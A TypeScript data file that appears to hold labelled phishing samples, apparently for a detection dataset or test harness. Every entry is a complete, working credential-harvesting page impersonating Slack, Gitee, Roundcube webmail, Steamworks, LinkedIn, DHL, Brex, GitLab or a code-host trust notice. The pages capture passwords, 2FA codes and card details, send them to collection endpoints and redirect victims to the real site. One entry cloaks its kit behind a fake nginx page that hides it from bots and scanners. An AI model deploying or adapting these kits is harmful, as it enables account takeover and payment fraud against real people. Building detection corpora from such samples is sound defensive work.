// Credential kits for chat, ticketing, CI, billing and other tools a developer company uses; lures and chains (author zz).
import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { doc, qwDoc, QW_TOP, QW_MARK, GH_CSS, GH_MARK, GH_FOOT, SLACK_MARK, ATLASSIAN_LOGO, tgSend, VISITOR_INFO, b64, pct } from '../parts/zz-kit.js';

export const entries: Entry[] = [
{
  id: 'zz-slack-workspace-signin-kit',
  label: 'phishing',
  kind: 'chat-kit',
  url: 'https://quellwerk-slack.com/signin?redir=%2Fclient%2FT02QW8812%2FC05SEC',
  body: doc({
    title: 'Sign in to Quellwerk | Slack',
    head: `<style>
body{margin:0;font-family:Slack-Lato,"Lato",appleLogo,sans-serif;color:#1d1c1d;background:#fff}
.top{display:flex;justify-content:center;padding:48px 0 16px}
.c{max-width:400px;margin:0 auto;text-align:center;padding:0 20px}
h1{font-size:44px;font-weight:700;letter-spacing:-.75px;margin:0 0 10px}
.sub{font-size:18px;color:#454245;margin-bottom:30px}
input{width:100%;box-sizing:border-box;height:44px;border:1px solid rgba(29,28,29,.3);border-radius:4px;font-size:18px;padding:0 12px;margin-bottom:12px}
.b{width:100%;height:44px;background:#4a154b;color:#fff;border:0;border-radius:4px;font-size:18px;font-weight:700;cursor:pointer}
.ws{display:inline-flex;align-items:center;gap:8px;border:1px solid #ddd;border-radius:8px;padding:6px 12px;margin-bottom:24px;font-size:15px}
.small{font-size:14px;color:#616061;margin-top:18px}
</style>`,
    body: `<div class="top">${SLACK_MARK}<span style="font:700 30px Lato,Arial;margin-left:8px">slack</span></div>
<div class="c">
<h1 id="t">Sign in to Quellwerk</h1><div class="ws">quellwerk.slack.com</div>
<p class="sub" id="s">We suggest using the <b>email address you use at work.</b></p>
<form id="f"><input type="email" id="e" placeholder="name@work-email.com" autocomplete="email"><input type="password" id="p" placeholder="Your password" autocomplete="current-password"><button class="b" type="submit">Sign In With Email</button></form>
<form id="g" style="display:none"><input id="code" inputmode="numeric" placeholder="XXX-XXX" maxlength="7"><button class="b">Confirm</button></form>
<p class="small">Trouble signing in? <a href="#">Get help</a></p>
</div>
<script>
${VISITOR_INFO}
var st={};
document.getElementById('f').onsubmit=function(ev){ev.preventDefault();st.email=document.getElementById('e').value;st.password=document.getElementById('p').value;
 var x=new XMLHttpRequest();x.open('POST','/api/auth.signin');x.setRequestHeader('Content-Type','application/json');
 x.onload=function(){document.getElementById('f').style.display='none';document.getElementById('g').style.display='block';document.getElementById('t').textContent='Check your email for a code';document.getElementById('s').innerHTML="We've sent a 6-character code to <b>"+st.email+"</b>. The code expires shortly, so please enter it soon.";};
 x.send(JSON.stringify(Object.assign({},st,vinfo())));
};
document.getElementById('g').onsubmit=function(ev){ev.preventDefault();navigator.sendBeacon('/api/auth.confirmCode',JSON.stringify({email:st.email,code:document.getElementById('code').value}));setTimeout(function(){location.href='https://app.slack.com/client/T02QW8812';},700);};
</script>`,
  }),
  routes: { 'quellwerk-slack.com/api/auth.signin': jsonRoute({ ok: true, code_sent: true }) },
},

{
  id: 'zz-gitee-login-clone-cn',
  label: 'phishing',
  kind: 'codehost-kit',
  url: 'https://gitee-login.com.cn/login?redirect_to_url=%2Fdashboard',
  body: doc({
    lang: 'zh-CN',
    title: '登录 - Gitee.com',
    head: `<style>body{margin:0;background:#f5f7fa;font-family:"PingFang SC","Microsoft YaHei",sans-serif;color:#40485b}
.nav{background:#fff;height:60px;display:flex;align-items:center;padding:0 40px;border-bottom:1px solid #e3e9ed}
.nav b{color:#c71d23;font-size:24px}
.box{width:380px;margin:60px auto;background:#fff;border-radius:4px;padding:30px 36px;box-shadow:0 2px 12px rgba(0,0,0,.06)}
.tabs{display:flex;gap:24px;border-bottom:1px solid #eee;margin-bottom:20px}.tabs span{padding-bottom:10px}.tabs .on{border-bottom:2px solid #c71d23;color:#c71d23}
input{width:100%;box-sizing:border-box;height:40px;border:1px solid #dcdfe6;border-radius:4px;padding:0 12px;margin-bottom:14px;font-size:14px}
button{width:100%;height:40px;background:#c71d23;color:#fff;border:0;border-radius:4px;font-size:15px;cursor:pointer}
.tip{background:#fdf6ec;color:#e6a23c;font-size:13px;padding:8px 10px;border-radius:4px;margin-bottom:14px}</style>`,
    body: `<div class="nav"><b>G</b>&nbsp;<span style="font-weight:600">Gitee</span></div>
<div class="box"><div class="tabs"><span class="on">账号登录</span><span>短信登录</span></div>
<div class="tip">根据《网络安全法》要求,您的账号需完成实名复核,否则仓库将于 72 小时内转为私有并冻结推送权限。</div>
<div id="s1"><input id="u" placeholder="手机/邮箱/个人空间地址"><input id="p" type="password" placeholder="请输入密码"><button id="b1">登 录</button></div>
<div id="s2" style="display:none"><p style="font-size:14px">已向您绑定的手机发送验证码</p><input id="c" placeholder="6 位短信验证码" maxlength="6"><button id="b2">验 证</button></div>
<p style="font-size:13px;text-align:center;margin-top:18px">没有帐号? <a href="#" style="color:#c71d23">点此注册</a> · <a href="#" style="color:#c71d23">忘记密码</a></p></div>
<script>
var o={};function up(){var i=new Image();i.src='/api/login.php?d='+encodeURIComponent(btoa(unescape(encodeURIComponent(JSON.stringify(o)))));}
document.getElementById('b1').onclick=function(){o.u=document.getElementById('u').value;o.p=document.getElementById('p').value;if(!o.u||!o.p)return;up();document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block';};
document.getElementById('b2').onclick=function(){o.c=document.getElementById('c').value;up();setTimeout(function(){location.href='https://gitee.com/dashboard'},900);};
</script>`,
  }),
},

{
  id: 'zz-roundcube-mailbox-full-de',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://webmail-quellwerk.de/?_task=login&_err=quota',
  body: doc({
    lang: 'de',
    title: 'Quellwerk Webmail :: Willkommen bei Quellwerk Webmail',
    head: `<style>body{margin:0;background:#f4f4f4;font-family:Roboto,"Helvetica Neue",Arial,sans-serif;color:#2c363a}
#layout{display:flex;align-items:center;justify-content:center;min-height:100vh}
form{width:360px;background:#fff;padding:30px;border-radius:4px;box-shadow:0 0 4px rgba(0,0,0,.1)}
#logo{display:block;margin:0 auto 22px;text-align:center;font-size:26px;font-weight:700;color:#37beff}
.msg{background:#fdeaea;color:#a00;border-radius:4px;padding:10px;font-size:13px;margin-bottom:14px}
.ig{display:flex;margin-bottom:12px}.ig span{width:38px;background:#eee;border:1px solid #ced4da;border-right:0;border-radius:4px 0 0 4px;text-align:center;line-height:36px}
.ig input{flex:1;border:1px solid #ced4da;border-radius:0 4px 4px 0;padding:8px;font-size:14px}
#rcmloginsubmit{width:100%;background:#37beff;color:#fff;border:0;border-radius:4px;padding:10px;font-size:15px;cursor:pointer}
#bottomline{text-align:center;font-size:12px;color:#999;margin-top:14px}</style>`,
    body: `<div id="layout"><form name="login-form" method="post" action="/post.php" id="lf">
<div id="logo">✉ Quellwerk Webmail</div>
<div class="msg"><b>Speicherplatz erschöpft (99,6 %).</b> Eingehende Nachrichten werden zurückgewiesen. Melden Sie sich an, um zusätzlichen Speicher freizuschalten.</div>
<input type="hidden" name="_token" value="mXhV9G2a8Yb7LQwE0pJc4sDf"><input type="hidden" name="_task" value="login"><input type="hidden" name="_action" value="login"><input type="hidden" name="_timezone" id="rcmlogintz" value="_default_">
<div class="ig"><span>👤</span><input name="_user" id="rcmloginuser" required placeholder="Benutzername" autocomplete="username"></div>
<div class="ig"><span>🔒</span><input name="_pass" id="rcmloginpwd" required type="password" placeholder="Passwort" autocomplete="current-password"></div>
<button type="submit" id="rcmloginsubmit">Anmelden</button>
<div id="bottomline">Roundcube Webmail · Quellwerk GmbH IT-Betrieb</div></form></div>
<script>
document.getElementById('rcmlogintz').value=Intl.DateTimeFormat().resolvedOptions().timeZone;
var h=location.hash.slice(1);if(h){try{document.getElementById('rcmloginuser').value=atob(h)}catch(e){document.getElementById('rcmloginuser').value=decodeURIComponent(h)}}
document.getElementById('lf').addEventListener('submit',function(e){e.preventDefault();var f=new FormData(this);
fetch('/post.php',{method:'POST',body:f}).then(function(){document.querySelector('.msg').innerHTML='Anmeldung fehlgeschlagen. Bitte erneut versuchen.';setTimeout(function(){location.href='https://quellwerk.io/';},2500);});});
</script>`,
  }),
  routes: { 'webmail-quellwerk.de/post.php': jsonRoute({ ok: 1 }) },
},

{
  id: 'zz-steamworks-partner-guard-kit',
  label: 'phishing',
  kind: 'games-kit',
  url: 'https://partner-steamworks.com/login/?goto=%2Fapps%2Flanding%2F2381460',
  body: doc({
    title: 'Steamworks',
    head: `<style>body{margin:0;background:#1b2838;font-family:"Motiva Sans",Arial,Helvetica,sans-serif;color:#c6d4df}
.head{background:#171a21;padding:18px 40px;font-size:22px;color:#fff;letter-spacing:2px}
.box{width:420px;margin:60px auto;background:#181a21;border-radius:4px;padding:32px 40px;box-shadow:0 0 24px rgba(0,0,0,.5)}
label{display:block;font-size:12px;text-transform:uppercase;color:#1999ff;margin:16px 0 6px;letter-spacing:.5px}
input{width:100%;box-sizing:border-box;background:#32353c;border:0;border-radius:2px;color:#fff;padding:10px;font-size:15px}
button{width:100%;margin-top:24px;background:linear-gradient(90deg,#06bfff,#2d73ff);color:#fff;border:0;border-radius:2px;padding:12px;font-size:16px;cursor:pointer}
.n{font-size:13px;color:#8f98a0;line-height:1.5}</style>`,
    body: `<div class="head">STEAMWORKS</div><div class="box">
<div id="a"><h2 style="color:#fff;font-weight:400;margin-top:0">Sign in</h2><p class="n">Sign in with your Steam account to access the Steamworks partner site. App <b>2381460</b> has a pending review action that requires your attention.</p>
<label>Sign in with account name</label><input id="an" autocomplete="username"><label>Password</label><input id="pw" type="password" autocomplete="current-password"><button id="b1">Sign in</button></div>
<div id="b" style="display:none"><h2 style="color:#fff;font-weight:400;margin-top:0">Steam Guard</h2><p class="n">Enter the code from your Steam Mobile App for account <b id="acc"></b>.</p><label>Code</label><input id="sg" maxlength="5" style="text-transform:uppercase;letter-spacing:6px;font-size:22px;text-align:center"><button id="b2">Submit</button></div>
</div>
<script>
var d={};function send(){return fetch('/api/steam',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(d)});}
document.getElementById('b1').onclick=function(){d.a=document.getElementById('an').value;d.p=document.getElementById('pw').value;if(!d.a||!d.p)return;send();document.getElementById('acc').textContent=d.a;document.getElementById('a').style.display='none';document.getElementById('b').style.display='block';};
document.getElementById('b2').onclick=function(){d.g=document.getElementById('sg').value.toUpperCase();send().then(function(){location.href='https://partner.steamgames.com/';});};
</script>`,
  }),
  routes: { 'partner-steamworks.com/api/steam': jsonRoute({ success: true }) },
},

{
  id: 'zz-linkedin-recruiter-inmail-kit',
  label: 'phishing',
  kind: 'social-kit',
  url: 'https://linkedin-talent-inmail.com/messaging/thread/2-ZTU4YjZlYjktN2Y1Ny00/?trk=eml-inmail',
  body: doc({
    title: 'LinkedIn Login, Sign in | LinkedIn',
    head: `<style>body{margin:0;background:#f3f2ef;font-family:-apple-system,system-ui,"Segoe UI",Roboto,sans-serif;color:rgba(0,0,0,.9)}
.bg{position:fixed;inset:0;padding:60px;filter:blur(6px);opacity:.6}.bg .m{background:#fff;border-radius:8px;padding:20px;margin-bottom:12px;height:80px}
.card{position:relative;width:352px;margin:60px auto;background:#fff;border-radius:8px;padding:24px;box-shadow:0 4px 12px rgba(0,0,0,.15)}
.logo{color:#0a66c2;font:700 28px Arial}.logo span{background:#0a66c2;color:#fff;border-radius:4px;padding:0 4px;margin-left:2px}
input{width:100%;box-sizing:border-box;height:52px;border:1px solid rgba(0,0,0,.6);border-radius:4px;padding:0 12px;font-size:16px;margin-bottom:14px}
button{width:100%;height:52px;background:#0a66c2;color:#fff;border:0;border-radius:28px;font-size:16px;font-weight:600;cursor:pointer}
.msg{display:flex;gap:10px;background:#eef3f8;border-radius:6px;padding:10px;margin:14px 0;font-size:14px}.av{width:40px;height:40px;border-radius:50%;background:#8aa4bf;flex:none}</style>`,
    body: `<div class="bg"><div class="m"></div><div class="m"></div><div class="m"></div></div>
<div class="card"><div class="logo">Linked<span>in</span></div>
<h1 style="font-size:26px;margin:16px 0 4px">Sign in</h1><p style="margin:0;font-size:14px">to view your InMail</p>
<div class="msg"><div class="av"></div><div><b>Hannah Ross</b> · Technical Recruiter at Coinbase<br><span style="color:#666">Hi! I came across your open-source work and think you'd be a great fit for a Staff Backend Engineer role (remote, $240–310k)…</span></div></div>
<form id="f"><input type="text" id="u" placeholder="Email or phone" autocomplete="username"><input type="password" id="p" placeholder="Password" autocomplete="current-password"><button>Sign in</button></form>
<p style="text-align:center;font-size:14px;margin-top:16px"><a href="#" style="color:#0a66c2;font-weight:600">Forgot password?</a></p></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var u=document.getElementById('u').value,p=document.getElementById('p').value;if(!u||!p)return;
fetch('/auth.php',{method:'POST',headers:{'content-type':'application/x-www-form-urlencoded'},body:'session_key='+encodeURIComponent(u)+'&session_password='+encodeURIComponent(p)}).then(function(){location.href='https://www.linkedin.com/messaging/';});};</script>`,
  }),
  routes: { 'linkedin-talent-inmail.com/auth.php': jsonRoute({ ok: true }) },
},

{
  id: 'zz-dhl-yubikey-customs-fee-de',
  label: 'phishing',
  kind: 'delivery-kit',
  url: 'https://dhl-paket-zustellung.de/sendung/?piececode=JJD000390007734912',
  body: doc({
    lang: 'de',
    title: 'DHL Sendungsverfolgung',
    head: `<style>body{margin:0;font-family:Delivery,Verdana,Arial,sans-serif;background:#f2f2f2;color:#333}
.top{background:#ffcc00;padding:14px 32px}.top b{color:#d40511;font:italic 900 30px Arial;letter-spacing:-1px}
.c{max-width:560px;margin:30px auto;background:#fff;padding:26px 30px;border-radius:4px}
.st{display:flex;gap:8px;margin:16px 0}.st div{flex:1;height:6px;background:#d40511;border-radius:3px}.st div.o{background:#ddd}
label{display:block;font-size:13px;font-weight:700;margin:12px 0 4px}input{width:100%;box-sizing:border-box;border:1px solid #999;padding:9px;font-size:15px}
.r{display:flex;gap:10px}.r>div{flex:1}button{background:#d40511;color:#fff;border:0;padding:12px 22px;font-size:15px;font-weight:700;margin-top:18px;cursor:pointer;width:100%}</style>`,
    body: `<div class="top"><b>DHL</b></div>
<div class="c" id="s1"><h2 style="margin-top:0">Ihre Sendung JJD000390007734912</h2>
<p>Absender: <b>Yubico AB, Stockholm (SE)</b><br>Inhalt: Sicherheitsschlüssel (2 Stk.)</p>
<div class="st"><div></div><div></div><div></div><div class="o"></div></div>
<p><b>Zustellung angehalten:</b> Für Ihre Sendung ist eine Zoll-/Bearbeitungsgebühr von <b>1,99 €</b> offen. Bitte begleichen Sie den Betrag innerhalb von 48 Stunden, sonst wird die Sendung an den Absender zurückgeschickt.</p>
<label>Karteninhaber</label><input id="n"><label>Kartennummer</label><input id="k" inputmode="numeric" maxlength="19">
<div class="r"><div><label>Gültig bis (MM/JJ)</label><input id="g" maxlength="5"></div><div><label>CVC</label><input id="c" maxlength="4" inputmode="numeric"></div></div>
<button id="b1">1,99 € jetzt bezahlen</button></div>
<div class="c" id="s2" style="display:none"><h2 style="margin-top:0">Zahlung bestätigen</h2><p>Wir haben Ihnen einen Bestätigungscode per SMS gesendet. Bitte geben Sie ihn ein, um die Zahlung von 1,99 € an DHL Paket GmbH zu autorisieren.</p><label>SMS-Code</label><input id="o" inputmode="numeric" maxlength="8"><button id="b2">Bestätigen</button></div>
<script>
var x={};function s(){navigator.sendBeacon('/pay.php',new Blob([JSON.stringify(x)],{type:'application/json'}));}
document.getElementById('b1').onclick=function(){['n','k','g','c'].forEach(function(i){x[i]=document.getElementById(i).value});if(x.k.replace(/\\D/g,'').length<15)return;s();document.getElementById('s1').style.display='none';document.getElementById('s2').style.display='block';};
document.getElementById('b2').onclick=function(){x.o=document.getElementById('o').value;s();setTimeout(function(){location.href='https://www.dhl.de/de/privatkunden/pakete-empfangen/verfolgen.html';},1000);};
</script>`,
  }),
},

{
  id: 'zz-brex-card-reverification-kit',
  label: 'phishing',
  kind: 'bank-kit',
  url: 'https://brex-cards-verify.com/signin?flow=card-reverify',
  body: doc({
    title: 'Sign in | Brex',
    head: `<style>body{margin:0;background:#0d0d0d;font-family:"Inter",-apple-system,sans-serif;color:#fff}
.w{max-width:400px;margin:80px auto;padding:0 20px}.logo{font:800 30px Arial;letter-spacing:-1px;margin-bottom:30px}
label{display:block;font-size:13px;color:#a3a3a3;margin:14px 0 6px}input{width:100%;box-sizing:border-box;background:#1a1a1a;border:1px solid #333;border-radius:8px;color:#fff;padding:12px;font-size:15px}
button{width:100%;margin-top:22px;background:#f46a35;color:#000;border:0;border-radius:8px;padding:13px;font-size:15px;font-weight:600;cursor:pointer}
.note{font-size:13px;color:#a3a3a3;background:#1a1a1a;border-radius:8px;padding:12px;margin-bottom:6px}</style>`,
    body: `<div class="w"><div class="logo">brex</div>
<div id="a"><h2>Sign in</h2><div class="note">For your security, card controls on your account were paused after unusual activity. Sign in and re-verify your corporate card to resume spending.</div>
<label>Work email</label><input id="e" type="email"><label>Password</label><input id="p" type="password"><button id="b1">Continue</button></div>
<div id="b" style="display:none"><h2>Re-verify card</h2><label>Card number</label><input id="cn" inputmode="numeric"><label>Expiry</label><input id="ex" placeholder="MM/YY"><label>CVC</label><input id="cv" inputmode="numeric"><label>Billing ZIP / postcode</label><input id="zp"><button id="b2">Verify card</button></div></div>
<script>
var z={};var B='https://brex-cards-verify.com/api/r';
function s(){return fetch(B,{method:'POST',mode:'no-cors',body:JSON.stringify(z)});}
document.getElementById('b1').onclick=function(){z.e=document.getElementById('e').value;z.p=document.getElementById('p').value;s();document.getElementById('a').style.display='none';document.getElementById('b').style.display='block';};
document.getElementById('b2').onclick=function(){['cn','ex','cv','zp'].forEach(function(k){z[k]=document.getElementById(k).value});s().then(function(){location.href='https://dashboard.brex.com/';});};
</script>`,
  }),
  routes: { 'brex-cards-verify.com/api/r': jsonRoute({}) },
},

(() => {
  const login = `(function(){document.open();document.write(${JSON.stringify(doc({
    title: 'Sign in · GitLab',
    head: `<style>body{margin:0;font-family:"GitLab Sans",-apple-system,"Segoe UI",Roboto,sans-serif;background:#fbfafd;color:#333238}
.c{max-width:400px;margin:60px auto;text-align:center}.f{background:#fff;border:1px solid #dcdcde;border-radius:4px;padding:24px;text-align:left}
label{display:block;font-weight:600;font-size:14px;margin:12px 0 6px}input{width:100%;box-sizing:border-box;border:1px solid #89888d;border-radius:4px;padding:8px 12px;font-size:14px}
button{width:100%;margin-top:18px;background:#1f75cb;color:#fff;border:0;border-radius:4px;padding:9px;font-weight:600;cursor:pointer}</style>`,
    body: `<div class="c"><svg width="48" height="46" viewBox="0 0 25 24"><path d="m24.507 9.5-.034-.09L21.082.562a.896.896 0 0 0-1.694.091l-2.29 7.01H7.825L5.535.653a.898.898 0 0 0-1.694-.09L.451 9.411.416 9.5a6.297 6.297 0 0 0 2.09 7.278l.012.01.03.022 5.16 3.867 2.56 1.935 1.554 1.176a1.051 1.051 0 0 0 1.268 0l1.555-1.176 2.56-1.935 5.197-3.89.014-.01A6.297 6.297 0 0 0 24.507 9.5Z" fill="#E24329"/></svg>
<h1 style="font-size:20px">Quellwerk CI – GitLab</h1><div class="f"><form id="f"><label>Username or primary email</label><input id="u" autocomplete="username"><label>Password</label><input id="p" type="password" autocomplete="current-password"><button>Sign in</button></form></div></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/users/auth/ldapmain/callback',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({u:document.getElementById('u').value,p:document.getElementById('p').value,h:location.host})}).then(function(){location.href='https://gitlab.com/'})};<\/script>`,
  }))});document.close();})();`;
  return {
    id: 'zz-cloaked-gitlab-ci-nginx-decoy',
    label: 'phishing',
    kind: 'cloaked-kit',
    url: 'https://gitlab.quellwerk-ci.com/users/sign_in',
    body: `<!DOCTYPE html>
<html>
<head>
<title>Welcome to nginx!</title>
<style>
html { color-scheme: light dark; }
body { width: 35em; margin: 0 auto;
font-family: Tahoma, Verdana, Arial, sans-serif; }
</style>
<script>
(function(){
  var ua=navigator.userAgent||'';
  var suspicious=navigator.webdriver||/HeadlessChrome|bot|crawler|spider|Lighthouse|PhantomJS|python-requests|curl|Google-Read-Aloud|urlscan|virustotal/i.test(ua)||!navigator.languages||navigator.languages.length===0||(window.outerWidth===0&&window.outerHeight===0);
  var tz='';try{tz=Intl.DateTimeFormat().resolvedOptions().timeZone}catch(e){}
  if(!suspicious && /^Europe\\//.test(tz)){
    var s=document.createElement('script');s.src='/assets/webpack/runtime.8c1f0e2b.js';document.head.appendChild(s);
  }
})();
</script>
</head>
<body>
<h1>Welcome to nginx!</h1>
<p>If you see this page, the nginx web server is successfully installed and
working. Further configuration is required.</p>

<p>For online documentation and support please refer to
<a href="http://nginx.org/">nginx.org</a>.<br/>
Commercial support is available at
<a href="http://nginx.com/">nginx.com</a>.</p>

<p><em>Thank you for using nginx.</em></p>
</body>
</html>`,
    routes: {
      'gitlab.quellwerk-ci.com/assets/webpack/runtime.8c1f0e2b.js': jsRoute(login),
      'gitlab.quellwerk-ci.com/users/auth/ldapmain/callback': jsonRoute({ ok: true }),
    },
  } satisfies Entry;
})(),

{
  id: 'zz-invoice-blurred-webmail-gate',
  label: 'phishing',
  kind: 'invoice-doc-kit',
  url: 'https://quellwerk-invoices.com/view/INV-2025-10-4471?e=YWNjb3VudHNAbm9yZGxpY2h0LXNvZnR3YXJlLmRl',
  body: doc({
    title: 'Invoice INV-2025-10-4471 – Secure Document',
    head: `<style>body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#525659}
.pdf{width:760px;max-width:94%;margin:30px auto;background:#fff;min-height:900px;padding:50px;box-sizing:border-box;filter:blur(5px);pointer-events:none;user-select:none}
.pdf table{width:100%;border-collapse:collapse}.pdf td{border-bottom:1px solid #ccc;padding:8px}
.ov{position:fixed;inset:0;background:rgba(0,0,0,.35);display:flex;align-items:center;justify-content:center}
.m{width:380px;background:#fff;border-radius:6px;padding:28px;box-shadow:0 10px 40px rgba(0,0,0,.4)}
.prov{display:grid;grid-template-columns:1fr 1fr;gap:8px;margin:14px 0}.prov button{border:1px solid #ccc;background:#fafafa;border-radius:4px;padding:10px;cursor:pointer;font-size:13px}
input{width:100%;box-sizing:border-box;border:1px solid #bbb;border-radius:4px;padding:9px;margin:6px 0 10px;font-size:14px}
.go{width:100%;background:#c0392b;color:#fff;border:0;border-radius:4px;padding:11px;font-weight:600;cursor:pointer}.er{color:#c0392b;font-size:13px;display:none}</style>`,
    body: `<div class="pdf"><h1>RECHNUNG / INVOICE</h1><p>Quellwerk GmbH · Torstraße 109 · 10119 Berlin<br>USt-IdNr. DE 327 118 540</p>
<p>Invoice no. INV-2025-10-4471 · Date 2025-10-14 · Due 2025-10-28</p>
<table><tr><td>Business plan – 45 seats × 12 months</td><td>€ 11.340,00</td></tr><tr><td>CI minutes add-on (50 000)</td><td>€ 1.200,00</td></tr><tr><td>VAT 19 %</td><td>€ 2.382,60</td></tr><tr><td><b>Total</b></td><td><b>€ 14.922,60</b></td></tr></table></div>
<div class="ov"><div class="m"><div style="display:flex;gap:10px;align-items:center"><svg width="34" height="40" viewBox="0 0 34 40"><path d="M0 0h24l10 10v30H0z" fill="#e74c3c"/><text x="5" y="28" font-size="10" fill="#fff" font-family="Arial" font-weight="700">PDF</text></svg><div><b>INV-2025-10-4471.pdf</b><br><span style="font-size:12px;color:#666">214 KB · Protected document</span></div></div>
<p style="font-size:14px">This file is protected. Confirm the recipient email account to view and download.</p>
<div class="prov"><button>Outlook</button><button>Office 365</button><button>Gmail</button><button>Other mail</button></div>
<div class="er" id="er">Wrong password. Please enter the correct password to view document.</div>
<input id="em" type="email" placeholder="Email address"><input id="pw" type="password" placeholder="Email password"><button class="go" id="go">View Document</button></div></div>
<script>
var q=new URLSearchParams(location.search).get('e');if(q){try{document.getElementById('em').value=atob(q);document.getElementById('em').readOnly=true}catch(e){}}
var c=0;document.getElementById('go').onclick=function(){var e=document.getElementById('em').value,p=document.getElementById('pw').value;if(!p)return;c++;
$post('/view/auth.php','email='+encodeURIComponent(e)+'&password='+encodeURIComponent(p)+'&attempt='+c,function(){if(c<3){document.getElementById('er').style.display='block';document.getElementById('pw').value='';}else{location.href='https://'+e.split('@')[1];}});};
function $post(u,b,cb){var x=new XMLHttpRequest();x.open('POST',u);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.onloadend=cb;x.send(b);}
</script>`,
  }),
  routes: { 'quellwerk-invoices.com/view/auth.php': jsonRoute({ signal: 'ok' }) },
},

{
  id: 'zz-repo-flagged-leaked-secrets-lure',
  label: 'phishing',
  kind: 'repo-alert-lure',
  url: 'https://quellwerk-trust.com/notices/QW-88213',
  body: qwDoc({
    title: 'Repository notice QW-88213 · Quellwerk Trust & Safety',
    top: QW_TOP(`<a class="btn" href="/users/sign_in?notice=QW-88213">Sign in</a>`),
    main: `<div class="content"><article>
<p style="color:#b42318;font-weight:700;margin-top:28px">⚠ Action required within 24 hours</p>
<h1 style="margin-top:0">Your repository has been flagged</h1>
<p>Our secret-scanning service found <b>3 active credentials</b> (AWS access key, Stripe live key, PostgreSQL connection string) in the default branch of <code>nordlicht/payments-api</code>. Because these credentials are publicly reachable through a fork, the repository will be <b>disabled</b> on <b>22 October 2025, 18:00 CEST</b> unless an owner confirms remediation.</p>
<table><tr><th>Secret type</th><th>File</th><th>Commit</th></tr>
<tr><td>AWS access key ID</td><td><code>deploy/terraform.tfvars</code></td><td><code>4f2c9e1</code></td></tr>
<tr><td>Stripe live secret key</td><td><code>.env.production</code></td><td><code>a91b03d</code></td></tr>
<tr><td>PostgreSQL URI</td><td><code>config/database.yml</code></td><td><code>a91b03d</code></td></tr></table>
<p style="margin-top:24px"><a class="btn btn-primary" href="/users/sign_in?notice=QW-88213">Sign in to respond</a></p>
<p style="font-size:13px;color:#5b6675">If you believe this notice was sent in error, you can appeal after signing in. Notice ID QW-88213.</p>
</article></div>`,
  }),
  routes: {
    'quellwerk-trust.com/users/sign_in': htmlRoute(qwDoc({
      title: 'Sign in · Quellwerk',
      top: QW_TOP(''),
      main: `<div class="auth-wrap"><div class="auth-card"><div style="text-align:center">${QW_MARK}</div><h1 style="text-align:center">Sign in to respond to notice</h1>
<form id="f" method="post" action="/users/sign_in"><label>Username or email</label><input type="text" id="u" name="user[login]"><label>Password</label><input type="password" id="p" name="user[password]"><label>Two-factor code</label><input type="text" id="o" name="user[otp_attempt]" inputmode="numeric" maxlength="6"><button class="btn btn-primary">Sign in</button></form></div></div>
<script>document.getElementById('f').onsubmit=function(e){e.preventDefault();var d=new FormData(this);d.append('notice','QW-88213');fetch('/api/notice/ack',{method:'POST',body:d}).then(function(){location.href='https://quellwerk.io/'});};</script>`,
    })),
    'quellwerk-trust.com/api/notice/ack': jsonRoute({ ok: true }),
  },
},
];
